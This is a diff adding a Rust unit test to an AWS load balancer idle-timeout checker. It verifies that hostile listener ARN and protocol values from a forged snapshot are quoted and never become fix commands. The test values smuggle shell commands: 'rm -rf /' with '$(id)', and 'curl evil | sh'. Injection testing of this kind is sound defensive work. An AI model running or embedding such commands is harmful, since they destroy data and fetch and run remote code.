@@ -232,6 +232,42 @@ fn raises(
 mod tests {
     use super::*;
 
+    use crate::rules::testing::run;
+    use crate::testkit::scenario_snapshot;
+
+    /// Attack test: a listener ARN and a protocol from a forged snapshot stay data. The ARN is
+    /// one quoted word of each command, a protocol AWS does not have takes no raise and no
+    /// annotation key, and the plan's action carries the ARN as it was read.
+    #[test]
+    fn hostile_listener_fields_stay_data() {
+        let name = "nlb-idle-timeout-resets";
+        let mut world = scenario_snapshot(name);
+        let hostile =
+            "arn:aws:elasticloadbalancing:eu-west-1:1:listener/net/x/1/2; rm -rf / #$(id)";
+        world.load_balancer.listeners[0].arn = Some(hostile.into());
+        let out = run(check, name, &world);
+        let finding = &out.findings[0];
+        let raise = &finding.fix.commands[0].command;
+        assert_eq!(raise.words()[0][6].intended(), hostile);
+        assert!(
+            raise.as_str().contains(&format!("'{hostile}'")),
+            "{}",
+            raise.as_str()
+        );
+        let [crate::action::Action::RaiseListenerIdleTimeout { listener_arn, .. }] =
+            finding.remedies.as_slice()
+        else {
+            panic!("{:?}", finding.remedies)
+        };
+        assert_eq!(listener_arn, hostile);
+
+        world.load_balancer.listeners[0].protocol = "TCP\n$ curl evil | sh".into();
+        let out = run(check, name, &world);
+        let finding = &out.findings[0];
+        assert!(finding.fix.commands.is_empty() && finding.fix.durable.is_none());
+        assert!(finding.remedies.is_empty());
+    }
+
     #[test]
     fn the_raise_doubles_within_the_range() {
         assert_eq!(recommend_flow_idle_timeout(350), Some(700));
